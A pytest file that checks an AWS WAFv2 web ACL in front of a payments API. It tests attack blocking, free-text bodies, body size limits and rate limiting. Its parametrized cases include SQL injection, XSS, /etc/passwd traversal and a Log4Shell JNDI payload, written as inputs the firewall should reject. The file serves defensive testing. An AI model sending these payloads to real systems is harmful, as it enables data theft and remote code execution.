"""What the synthesized web ACL does to requests, in front of a real listener and a real target."""

import asyncio
import copy
from collections.abc import Callable, Mapping
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from aiohttp import ClientSession

from stages.config.capacity import CapacityConfig
from stages.service.firewall import BODY_LIMIT
from tests.rehearsal.elbv2.harness import Harness, echo, run_scenario
from tests.stages.model import Templates

pytestmark = pytest.mark.rehearsal

PROBLEMS = {403: "request_blocked", 413: "content_too_large", 429: "too_many_requests"}
#: Rate limit of the tests, instead of tens of thousands.
LIMIT = 10


@pytest.fixture
def play(each: Templates, tmp_path: Path) -> Callable[..., None]:
    """Play a scenario with a load balancer behind the synthesized web ACL."""
    return partial(run_scenario, tmp_path, web_acl=described(each))


def described(templates: Templates) -> dict[str, Any]:
    """The web ACL as WAFv2 describes it."""
    return {**copy.deepcopy(dict(templates.one("AWS::WAFv2::WebACL").properties)), "ARN": "arn:acl"}


def scaled(acl: dict[str, Any], **limits: int) -> dict[str, Any]:
    """The same web ACL with other limits."""
    for rule in acl["Rules"]:
        if rule["Name"] in limits:
            rule["Statement"]["RateBasedStatement"]["Limit"] = limits[rule["Name"]]
    return acl


async def ask(client: ClientSession, method: str, path: str, **options: Any) -> tuple[int, Mapping[str, str], Any]:
    async with client.request(method, path, **options) as answer:
        body = await answer.json(content_type="application/json")
        if answer.status in PROBLEMS:
            assert (body["status"], body["code"]) == (answer.status, PROBLEMS[answer.status])
            assert body["type"] == f"/docs#{body['code']}"
        return answer.status, answer.headers, body


@pytest.mark.parametrize(
    "options",
    [
        {"path": "/v1/payments?reference=1'%20UNION%20SELECT%20password%20FROM%20users--"},
        {"path": "/v1/payments/1'%20or%201=1--"},
        {"path": "/v1/payments", "headers": {"Cookie": "session=1' or 1=1--"}},
        {"path": "/v1/payments?reference=%3Cscript%3Ealert(1)%3C/script%3E"},
        {"path": "/v1/payments?reference=../../../etc/passwd"},
        {"path": "/v1/payments", "headers": {"Idempotency-Key": "${jndi:ldap://192.0.2.1/a}"}},
    ],
)
def test_attacks_are_rejected_with_a_problem(play: Callable[..., None], options: dict[str, Any]) -> None:
    async def scenario(harness: Harness) -> None:
        await harness.target(echo)
        async with harness.client() as client:
            assert (await ask(client, "GET", **options))[0] == 403

    play(scenario)


def test_an_attack_is_blocked_despite_an_exempt_body(play: Callable[..., None]) -> None:
    async def scenario(harness: Harness) -> None:
        await harness.target(echo)
        path = "/v1/payments?reference=1'%20UNION%20SELECT%20password%20FROM%20users--"
        async with harness.client() as client:
            assert (await ask(client, "POST", path, json={"description": "' OR 1=1 --"}))[0] == 403

    play(scenario)


@pytest.mark.parametrize(
    "text",
    [
        "O'Brien; select option 1 -- see union",
        "' OR 1=1 --",
        "<script>alert(1)</script>",
        "see ../../manual.pdf at http://192.0.2.1/ or http://169.254.169.254/",
        "${jndi:ldap://192.0.2.1/a}",
    ],
    ids=["quotes", "sql", "script", "paths", "jndi"],
)
@pytest.mark.parametrize("path", ["/v1/payments", "/v1/processors/stripe/webhooks"], ids=["payment", "webhook"])
def test_free_text_in_bodies_passes(play: Callable[..., None], path: str, text: str) -> None:
    async def scenario(harness: Harness) -> None:
        await harness.target(echo)
        payment = {"amount": 100, "currency": "EUR", "description": text, "metadata": {"note": text}}
        async with harness.client() as client:
            assert (await ask(client, "POST", path, json=payment))[0] == 200

    play(scenario)


def test_clients_without_a_user_agent_are_served(play: Callable[..., None]) -> None:
    async def scenario(harness: Harness) -> None:
        await harness.target(echo)
        async with harness.client() as client:
            assert (await ask(client, "GET", "/v1/payments", skip_auto_headers=["User-Agent"]))[0] == 200

    play(scenario)


def test_the_body_limit_is_exact(play: Callable[..., None]) -> None:
    async def scenario(harness: Harness) -> None:
        await harness.target(echo)
        async with harness.client() as client:
            sizes = {size: await ask(client, "POST", "/", data=b" " * size) for size in (BODY_LIMIT, BODY_LIMIT + 1)}
        assert {size: status for size, (status, _, _) in sizes.items()} == {BODY_LIMIT: 200, BODY_LIMIT + 1: 413}
        assert len(sizes[BODY_LIMIT][2]["body"]) == BODY_LIMIT

    play(scenario)


@pytest.mark.parametrize("rule", ["rate-limit-ip", "rate-limit-key"])
def test_a_rate_limited_client_is_served_later(each: Templates, tmp_path: Path, rule: str) -> None:
    async def scenario(harness: Harness) -> None:
        await harness.target(echo)
        async with harness.client() as client:
            one = {"Authorization": "Bearer one"}
            answers = [await ask(client, "GET", "/", headers=one) for _ in range(LIMIT + 1)]
            assert [status for status, _, _ in answers] == [200] * LIMIT + [429]
            assert answers[-1][1]["Retry-After"] == "60"
            other = 429 if rule == "rate-limit-ip" else 200
            assert (await ask(client, "GET", "/", headers={"Authorization": "Bearer other"}))[0] == other
            harness.now += 301
            assert (await ask(client, "GET", "/", headers=one))[0] == 200

    run_scenario(tmp_path, scenario, web_acl=scaled(described(each), **{rule: LIMIT}))


def test_the_rate_limits_suit_a_busy_merchant(each: Templates, tmp_path: Path) -> None:
    async def scenario(harness: Harness) -> None:
        await harness.target(echo)
        async with harness.client() as client:
            answers = await asyncio.gather(*(ask(client, "GET", "/") for _ in range(200)))
        assert {status for status, _, _ in answers} == {200}

    run_scenario(tmp_path, scenario, web_acl=described(each))
    assert CapacityConfig().rate_limit / 300 >= 100
